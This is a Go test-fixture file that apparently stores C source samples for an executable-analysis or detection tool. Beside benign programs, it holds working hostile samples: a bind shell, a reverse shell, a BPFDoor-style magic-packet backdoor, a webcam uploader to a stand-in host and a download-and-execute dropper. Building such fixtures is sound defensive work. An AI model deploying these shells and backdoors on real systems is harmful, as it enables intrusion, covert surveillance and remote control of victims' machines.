package exe

// C sources of the fixtures. None of them is ever run: they exist to be
// compiled and read. Addresses are loopback or documentation addresses
// (RFC 5737) unless a test needs an endpoint.

const cHello = `#include <stdio.h>
int main(void) { puts("hello, world"); return 0; }
`

// cBindShell: socket, bind to 127.0.0.1:4444, listen, accept, dup2 the
// connection onto stdio and execve a shell.
const cBindShell = `#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(4444); a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) return 1;
	int c = accept(s, 0, 0);
	for (int i = 0; i < 3; i++) dup2(c, i);
	char *argv[] = {"/bin/sh", 0};
	execve("/bin/sh", argv, 0);
	return 0;
}
`

// cReverseShell connects out to 192.0.2.1:4444 and runs "/bin/sh -i".
const cReverseShell = `#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(4444);
	inet_pton(AF_INET, "192.0.2.1", &a.sin_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof a)) return 1;
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	execl("/bin/sh", "/bin/sh", "-i", (char *)0);
	return 0;
}
`

// cMagicPacket is shaped like BPFDoor: an AF_PACKET raw socket with a
// classic BPF filter attached, a magic value compared with memcmp, a
// kernel-thread name set with prctl, and a shell run on a match.
const cMagicPacket = `#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>
static const struct sock_filter code[] = {
	{0x28, 0, 0, 0x0000000c}, {0x15, 0, 5, 0x00000800}, {0x30, 0, 0, 0x00000017},
	{0x15, 0, 3, 0x00000011}, {0x28, 0, 0, 0x00000014}, {0x45, 1, 0, 0x00001fff},
	{0x06, 0, 0, 0x0000ffff}, {0x06, 0, 0, 0x00000000},
};
int main(int argc, char **argv) {
	prctl(PR_SET_NAME, "[kworker/0:1]");
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	struct sock_fprog prog = {sizeof code / sizeof code[0], (struct sock_filter *)code};
	setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof prog);
	char buf[2048];
	for (;;) {
		ssize_t n = recvfrom(s, buf, sizeof buf, 0, 0, 0);
		if (n > 50 && memcmp(buf + 42, "\x52\x93\x72\x55", 4) == 0 && fork() == 0) {
			execl("/bin/sh", "sh", "-c", buf + 46, (char *)0);
		}
	}
}
`

// cCamUploader reads frames from /dev/video0 and sends them out.
const cCamUploader = `#include <fcntl.h>
#include <linux/videodev2.h>
#include <netdb.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	int v = open("/dev/video0", O_RDWR);
	struct v4l2_capability cap;
	if (ioctl(v, VIDIOC_QUERYCAP, &cap) < 0) return 1;
	struct addrinfo *ai;
	if (getaddrinfo("cam-upload.badhost.cn", "8080", 0, &ai)) return 1;
	int s = socket(ai->ai_family, SOCK_STREAM, 0);
	if (connect(s, ai->ai_addr, ai->ai_addrlen)) return 1;
	static char frame[65536];
	ssize_t n;
	while ((n = read(v, frame, sizeof frame)) > 0) write(s, frame, n);
	write(s, "POST http://cam-upload.badhost.cn:8080/put", 42);
	return 0;
}
`

// cTelnetClient only connects.
const cTelnetClient = `#include <netdb.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
	struct addrinfo *ai;
	if (argc < 3 || getaddrinfo(argv[1], argv[2], 0, &ai)) return 2;
	int s = socket(ai->ai_family, SOCK_STREAM, 0);
	if (connect(s, ai->ai_addr, ai->ai_addrlen)) { perror("connect"); return 1; }
	char buf[512]; ssize_t n;
	while ((n = read(s, buf, sizeof buf)) > 0) write(1, buf, n);
	return 0;
}
`

// cHTTPServer listens and answers; it runs nothing.
const cHTTPServer = `#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(8080);
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16)) return 1;
	const char *r = "HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok";
	for (;;) { int c = accept(s, 0, 0); char b[1024]; read(c, b, sizeof b); write(c, r, strlen(r)); close(c); }
}
`

// cUpdater downloads over a socket, marks the file executable, runs it.
const cUpdater = `#include <netdb.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
	struct addrinfo *ai;
	const char *url = "http://updates.badhost.cn/agent.bin";
	if (getaddrinfo("updates.badhost.cn", "80", 0, &ai)) return 1;
	int s = socket(ai->ai_family, SOCK_STREAM, 0);
	if (connect(s, ai->ai_addr, ai->ai_addrlen)) return 1;
	write(s, url, 35);
	int f = open("/tmp/.agent", O_WRONLY | O_CREAT, 0600);
	char b[4096]; ssize_t n;
	while ((n = read(s, b, sizeof b)) > 0) write(f, b, n);
	close(f);
	chmod("/tmp/.agent", 0755);
	char *argv[] = {"/tmp/.agent", 0};
	execv("/tmp/.agent", argv);
	return 0;
}
`

// cSharedLib is a shared object that runs a command.
const cSharedLib = `#include <stdio.h>
int run(const char *cmd) { FILE *p = popen(cmd, "r"); return p ? pclose(p) : -1; }
`

// cKernelModule is a relocatable object shaped like a kernel module: a
// .modinfo section and an undefined call_usermodehelper the kernel would
// resolve at load time. It is compiled with -c, never loaded.
const cKernelModule = `extern int call_usermodehelper(const char *path, char **argv, char **envp, int wait);
__attribute__((section(".modinfo"), used)) static const char license[] = "license=GPL";
__attribute__((section(".gnu.linkonce.this_module"), used)) static char this_module[64];
int init_module(void) {
	char *argv[] = {"/bin/sh", "-c", "echo", 0};
	return call_usermodehelper(argv[0], argv, 0, 1);
}
`
